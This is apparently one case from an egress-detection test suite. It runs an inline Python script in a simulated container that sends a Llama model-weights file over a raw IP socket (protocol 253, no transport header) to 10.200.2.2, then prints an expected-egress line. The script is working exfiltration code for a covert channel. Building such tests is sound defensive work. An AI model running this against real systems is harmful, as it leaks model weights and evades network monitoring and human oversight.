# VN5 EXF-001 over a raw IP socket (protocol 253, no transport header), no connect()
ctr_run simctr-infer-vn5 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); n = 0
with open(sys.argv[1], "rb") as f:
    while chunk := f.read(1400):
        n += s.sendto(chunk, ("10.200.2.2", 0))
s.close()
print(f"egress-expect proto=raw origin=datagram dport=0 bytes={n}")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
